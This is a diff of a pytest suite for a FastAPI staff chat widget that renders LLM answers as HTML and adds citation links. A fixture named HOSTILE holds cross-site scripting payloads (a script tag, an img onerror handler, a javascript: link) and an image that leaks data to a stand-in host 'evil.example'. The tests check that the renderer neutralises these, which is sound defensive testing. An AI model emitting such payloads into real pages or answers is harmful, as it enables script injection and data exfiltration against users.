@@ -7,12 +7,13 @@ from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
-from pydantic import SecretStr
+from pydantic import SecretStr, ValidationError
 from sqlalchemy import create_engine, select
 
+from app.bench.scripted_llm import Reply, ScriptedLLM
 from app.db.engine import sync_url
 from app.db.models import Feedback
-from app.settings import Settings
+from app.settings import ApiKey, KnowledgeSettings, LLMSettings, Settings
 from tests.conftest import make_client
 
 STAFF = {"authorization": "Bearer alice-token"}
@@ -124,9 +125,11 @@ def test_staff_sign_in_by_token_or_trusted_header(settings: Settings, sample_ind
     settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
     settings.widget.trusted_user_header = "X-Forwarded-User"
     with make_client(settings, sample_index) as client:
-        assert client.get("/v1/widget/me", headers=STAFF).json() == {"name": "alice"}
+        examples = settings.widget.example_questions
+        me = client.get("/v1/widget/me", headers=STAFF).json()
+        assert me == {"name": "alice", "example_questions": examples}
         by_proxy = client.get("/v1/widget/me", headers={"X-Forwarded-User": "bob"})
-        assert by_proxy.json() == {"name": "bob"}
+        assert by_proxy.json()["name"] == "bob"
 
 
 def test_the_widget_is_served_and_cors_is_limited(staff_client: TestClient) -> None:
@@ -167,3 +170,173 @@ def test_feedback_is_stored_and_guarded(staff_client: TestClient, settings: Sett
         ).all()
     engine.dispose()
     assert rows == [(1, "down", "missing the due date", "alice")]
+
+
+HOSTILE = (
+    "**Step 1.** Open *Sales*.\n\n"
+    "- first\n- second\n\n"
+    "```\nprint('<b>not bold</b>')\n```\n\n"
+    "<script>window.hacked = 1</script>\n"
+    '<img src="x" onerror="window.hacked = 2">\n\n'
+    "[a trap](javascript:window.hacked=3) and [the manual](https://docs.example.com/a?b=1&c=2)"
+    " ![pixel](https://evil.example/leak?q=secret)"
+)
+
+
+@pytest.fixture
+def scripted_client(settings: Settings, sample_index: Path) -> Iterator[TestClient]:
+    """The staff client, its model the scripted OpenAI-compatible server: every request
+    answered with HOSTILE."""
+    settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
+    with ScriptedLLM(policy=lambda _: Reply(HOSTILE)) as base_url:
+        settings.llm = LLMSettings(model="scripted", base_url=base_url, api_key="dummy")
+        with make_client(settings, sample_index) as client:
+            yield client
+
+
+def test_an_answer_comes_as_markdown_and_as_html_without_anything_that_runs(
+    scripted_client: TestClient,
+) -> None:
+    streamed = scripted_client.post(
+        f"/v1/conversations/{KEY}/messages/stream", json=ask("hi"), headers=STAFF
+    )
+    done = events(streamed.text)[-1][1]
+    assert done["text"] == HOSTILE
+    html = str(done["html"])
+    for rendered in (
+        "<strong>Step 1.</strong>",
+        "<li>first</li>",
+        "<pre><code>print('&lt;b&gt;not bold&lt;/b&gt;')",
+        '<a href="https://docs.example.com/a?b=1&amp;c=2" target="_blank" '
+        'rel="noopener noreferrer">the manual</a>',
+        # an image is a link to click, not a URL fetched the moment the answer shows
+        '<a href="https://evil.example/leak?q=secret" target="_blank" '
+        'rel="noopener noreferrer">pixel</a>',
+    ):
+        assert rendered in html
+    # The tags are text the reader sees, never elements; no script, handler, image or
+    # javascript: link survives.
+    assert "&lt;script&gt;" in html and "<script" not in html
+    assert "<img" not in html and "javascript:" not in html.replace("(javascript:", "")
+    assert 'href="javascript' not in html
+    history = scripted_client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()
+    answer = history["messages"][-1]
+    assert (answer["content"], answer["html"]) == (HOSTILE, html)
+    assert history["messages"][0]["html"] is None  # the question is shown as typed
+
+
+def test_citations_link_to_the_public_page_when_the_collection_has_one(
+    settings: Settings, sample_index: Path
+) -> None:
+    settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
+    settings.knowledge.public_base_urls = {"kb": "https://help.example.com/docs/"}
+    with make_client(settings, sample_index) as client:
+        reply = client.post(
+            f"/v1/conversations/{KEY}/messages",
+            json=ask("How do I create an invoice?"),
+            headers=STAFF,
+        ).json()
+        restored = client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()
+    url = "https://help.example.com/docs/en/create-invoice.md"
+    assert url in [c["url"] for c in reply["citations"]]
+    assert restored["messages"][-1]["citations"] == reply["citations"]
+
+
+def test_without_a_public_base_url_a_citation_has_no_url(staff_client: TestClient) -> None:
+    reply = staff_client.post(
+        f"/v1/conversations/{KEY}/messages", json=ask("How do I create an invoice?"), headers=STAFF
+    ).json()
+    assert reply["citations"] and all(c["url"] is None for c in reply["citations"])
+    invoice = next(c for c in reply["citations"] if c["source"] == "en/create-invoice.md")
+    assert "**Sales → Invoices → New invoice**" in invoice["excerpt"]
+    assert "<strong>Sales → Invoices → New invoice</strong>" in invoice["excerpt_html"]
+
+
+@pytest.mark.parametrize(
+    ("source", "url"),
+    [
+        # a key for a folder wins over the collection's: the public site is laid out apart
+        ("gnucash-help-en/chang-lang.html", "https://code.gnucash.org/docs/C/gnucash-help/chang-lang.html"),
+        ("gnucash-guide-de/bus-ar-invoices1.html", "https://code.gnucash.org/docs/de/gnucash-guide/bus-ar-invoices1.html"),
+        ("other/a page.html", "https://mirror.example.com/other/a%20page.html"),
+        ("https://example.com/page", "https://example.com/page"),  # already a URL
+    ],
+)  # fmt: skip
+def test_a_source_maps_to_its_public_page(source: str, url: str) -> None:
+    knowledge = KnowledgeSettings(
+        collection="evals",
+        public_base_urls={
+            "evals": "https://mirror.example.com",
+            "evals/gnucash-help-en/": "https://code.gnucash.org/docs/C/gnucash-help/",
+            "evals/gnucash-guide-de": "https://code.gnucash.org/docs/de/gnucash-guide/",
+            "kb": "https://elsewhere.example.com/",
+        },
+    )
+    assert knowledge.public_url(source) == url
+    # another collection's key never matches ("kb" is not a start of "kb2/…")
+    elsewhere = knowledge.model_copy(update={"collection": "kb2"}).public_url(source)
+    assert elsewhere == (source if source.startswith("https://") else None)
+
+
+def test_a_public_base_url_is_a_web_address() -> None:
+    with pytest.raises(ValidationError, match="'kb' is not an http"):
+        KnowledgeSettings(public_base_urls={"kb": "javascript:alert(1)//"})
+
+
+@pytest.mark.parametrize("database", ["sqlite", "postgresql"])
+def test_each_staff_member_lists_their_own_chats_the_latest_first(
+    settings: Settings, sample_index: Path, database: str, request: pytest.FixtureRequest
+) -> None:
+    if database == "postgresql":
+        settings.db.url = request.getfixturevalue("own_pg_url")
+    tokens = {"alice": "alice-token", "al_ce": "alxce-token", "bob": "bob-token"}
+    settings.widget.staff_tokens = {name: SecretStr(token) for name, token in tokens.items()}
+    settings.api.keys = {"shop": ApiKey(key=SecretStr("shop-key-0123456789"), prefix="api:")}
+    as_ = {name: {"authorization": f"Bearer {token}"} for name, token in tokens.items()}
+    with make_client(settings, sample_index) as client:
+        for key, name, text in [
+            ("widget:alice:1", "alice", "How do I create an invoice?"),
+            ("widget:bob:1", "bob", "How do I import a bank statement?"),
+            ("widget:alice:2", "alice", "Hello " + "there " * 30),
+            ("widget:alice:1", "alice", "And a credit note?"),
+        ]:
+            posted = client.post(
+                f"/v1/conversations/{key}/messages", json=ask(text), headers=as_[name]
+            )
+            assert posted.status_code == 200
+        listed = client.get("/v1/widget/conversations", headers=as_["alice"]).json()
+        assert (
+            [(c["key"], c["title"]) for c in listed["conversations"]]
+            == [
+                ("widget:alice:1", "How do I create an invoice?"),  # its second turn came last
+                ("widget:alice:2", ("Hello " + "there " * 30)[:80].rstrip() + "…"),
+            ]
+        )
+        assert listed["conversations"][0]["last_activity"].endswith(("Z", "+00:00"))
+        one = client.get("/v1/widget/conversations?limit=1", headers=as_["alice"]).json()
+        assert [c["key"] for c in one["conversations"]] == ["widget:alice:1"]
+        # `_` is a letter of a name, not a LIKE wildcard matching alice's chats
+        assert client.get("/v1/widget/conversations", headers=as_["al_ce"]).json() == {
+            "conversations": []
+        }
+        bobs = client.get("/v1/widget/conversations", headers=as_["bob"]).json()
+        assert [c["key"] for c in bobs["conversations"]] == ["widget:bob:1"]
+        assert client.get("/v1/widget/conversations").status_code == 401
+        by_key = client.get(
+            "/v1/widget/conversations", headers={"authorization": "Bearer shop-key-0123456789"}
+        )
+        assert by_key.status_code == 403
+
+
+def test_the_history_shows_each_answers_latest_rating(staff_client: TestClient) -> None:
+    for text in ("How do I create an invoice?", "And a credit note?"):
+        staff_client.post(f"/v1/conversations/{KEY}/messages", json=ask(text), headers=STAFF)
+    path = f"/v1/conversations/{KEY}/turns/1/feedback"
+    staff_client.post(path, json={"rating": "up"}, headers=STAFF)
+    staff_client.post(path, json={"rating": "down", "comment": "no due date"}, headers=STAFF)
+    messages = staff_client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()["messages"]
+    answers = [m for m in messages if m["role"] == "assistant" and not m["tool_calls"]]
+    assert [a["feedback"] for a in answers] == [
+        {"rating": "down", "comment": "no due date"},
+        None,
+    ]
